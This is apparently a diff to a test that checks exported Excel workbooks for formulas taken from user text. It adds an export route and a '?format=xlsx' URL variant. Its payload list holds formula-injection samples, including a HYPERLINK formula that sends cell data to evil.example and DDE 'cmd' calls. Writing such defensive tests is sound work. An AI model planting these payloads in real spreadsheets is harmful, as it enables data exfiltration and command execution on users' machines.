@@ -37,7 +37,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 NAMED = {"ledger/excel/export/", "ledger/excel/import/<int:pk>/errors.xlsx", "insurance/work-list/export.xlsx",
          "inspections/reports/<int:pk>/report.xlsx", "inspections/plans/<int:pk>/report.xlsx",
-         "ledger/excel/template/", "insurance/coverage/import/template.xlsx", "dashboard/export/"}
+         "ledger/excel/template/", "insurance/coverage/import/template.xlsx", "dashboard/export/", "worklist/audit/"}
 
 
 def walk(patterns, prefix=""):
@@ -122,8 +122,8 @@ def test_no_workbook_holds_a_formula_from_user_text(payload_world, settings):
         if route.startswith(("admin/", "api/")) or "logout" in route:
             continue
         urls = urls_for(route, payload_world["ids"], tokens)
-        if "<" not in route:  # pages that show a region's figures once one is chosen
-            urls.append(f"/{route}?region=371502")
+        if "<" not in route:  # a region's figures once one is chosen; pages that export on ?format=xlsx
+            urls += [f"/{route}?region=371502", f"/{route}?format=xlsx"]
         for url in urls:
             response = client.get(url)
             if response.status_code != 200:
